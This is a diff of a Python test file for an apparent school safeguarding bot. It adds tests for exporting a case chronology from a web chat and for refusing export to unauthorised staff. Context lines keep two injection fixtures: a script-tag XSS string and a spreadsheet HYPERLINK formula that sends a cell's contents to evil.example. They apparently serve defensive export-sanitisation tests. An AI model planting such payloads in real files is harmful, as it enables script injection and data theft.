@@ -7,6 +7,8 @@ from __future__ import annotations
 
 import csv
 import io
+import json
+import uuid
 from collections.abc import AsyncIterator
 from contextlib import asynccontextmanager
 
@@ -22,6 +24,7 @@ from tests.alerts.test_alerts import DSL, file_concern
 from tests.support.harness import Chat
 from tests.support.reports import event_kinds, only_report
 from tests.support.walk import STAFF
+from tests.web.test_web_api import Socket, items, open_chat
 
 SCRIPT = "<script>alert('x')</script> AB showed me messages in the class group chat."
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
@@ -59,6 +62,15 @@ async def handled_case(bot: Bot) -> int:
     await dsl.click("__submit")
     dsl.assert_reply("close a case for")
     return case
+
+
+async def press(chat: Socket, value: str) -> list[dict[str, object]]:
+    """Press a button in the web chat; the answer to it (alerts pushed meanwhile are skipped)."""
+    sent = uuid.uuid4().hex
+    frame = await chat.send({"id": sent, "type": "action", "value": value})
+    while frame.get("reply_to") != sent:
+        frame = await chat.next()
+    return items(frame)
 
 
 async def exports(bot: Bot) -> list[dict[str, object]]:
@@ -217,3 +229,43 @@ async def test_not_signed_in_and_unknown_cases(make_bot):
             assert missing.status == 404
             assert "could not be found" in await missing.text()
     assert await event_kinds(bot) == kinds  # nothing was exported, nothing refused
+
+
+async def test_in_the_web_chat_the_button_gives_the_links_and_opening_one_exports(make_bot):
+    bot = await make_bot()
+    case = await handled_case(bot)
+    report = await only_report(bot)
+    async with serve(bot, DSL) as client, open_chat(client) as (chat, _hello, _first):
+        viewed = await press(chat, f"case:view:{case}")
+        (history,) = [i for i in viewed if i["kind"] == "card" and i["title"] == "Chronology"]
+        assert history["links"] == []  # a view offers the export, and gives nothing by itself
+        assert {"value": f"case:export:{case}", "label": "Export the chronology"} == {
+            k: v for k, v in history["actions"][0].items() if k != "style"
+        }
+        assert all(i["links"] == [] for i in viewed if i["kind"] == "card")
+
+        (card,) = await press(chat, f"case:export:{case}")
+        assert card["title"] == f"Export of {report.reference}"
+        assert card["links"] == [
+            {"label": "Printable chronology", "href": f"/api/web/cases/{case}/chronology.html"},
+            {"label": "Chronology as CSV", "href": f"/api/web/cases/{case}/chronology.csv"},
+        ]
+        assert "Confidential" not in json.dumps(card)  # the file's bytes never enter the chat
+        assert await exports(bot) == []  # the page records the export when it is opened
+
+        response = await client.get(card["links"][1]["href"])
+        assert response.status == 200 and (await response.read()).startswith(b"\xef\xbb\xbf")
+    assert await exports(bot) == [{"who": DSL, "format": "csv"}]
+
+
+async def test_in_the_web_chat_someone_who_may_not_view_the_case_cannot_export_it(make_bot):
+    bot = await make_bot()
+    case = await handled_case(bot)
+    async with serve(bot, STAFF) as client, open_chat(client) as (chat, _hello, _first):
+        (refused, *_) = await press(chat, f"case:export:{case}")
+    assert refused["kind"] == "notice" and refused["tone"] == "error"
+    assert refused["text"].startswith("Only the DSL, the deputies and the headteacher")
+    assert await exports(bot) == []
+    async with bot.router.sessions() as session:
+        found = await session.scalars(select(Event).where(Event.kind == "refused"))
+        assert [(e.actor_email, e.detail) for e in found] == [(STAFF, {"action": "export"})]
